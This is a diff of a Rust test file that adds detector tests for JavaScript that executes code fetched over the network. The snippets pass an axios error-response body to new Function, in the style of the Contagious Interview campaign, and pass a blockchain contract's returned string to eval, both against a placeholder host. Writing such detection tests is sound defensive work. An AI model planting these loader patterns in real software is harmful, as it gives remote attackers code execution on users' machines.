@@ -170,3 +170,30 @@ fn a_function_made_of_text_may_give_the_process() {
     assert!(sends("process"));
     assert!(!sends("other"));
 }
+
+#[test]
+fn what_a_failed_request_answers_comes_over_the_network() {
+    // Contagious Interview (2024 to 2026): the code stands in the body of an error.
+    let runs = |what: &str| {
+        javascript(&format!(
+            "const axios = require('axios');\n\
+             (async () => {{ try {{ await axios.get('https://a.invalid/x'); }} catch (e) {{\n\
+             new Function('require', {what})(require); }} }})();\n"
+        ))
+    };
+    assert!(runs("e.response.data"));
+    assert!(!runs("'1'"));
+}
+
+#[test]
+fn what_a_contract_of_a_chain_answers_comes_over_the_network() {
+    let runs = |what: &str| {
+        javascript(&format!(
+            "const {{ Contract, JsonRpcProvider }} = require('ethers');\n\
+             const c = new Contract('0x1', [], new JsonRpcProvider('https://a.invalid'));\n\
+             c.getString('0x2').then((answer) => eval({what}));\n"
+        ))
+    };
+    assert!(runs("answer"));
+    assert!(!runs("'1'"));
+}
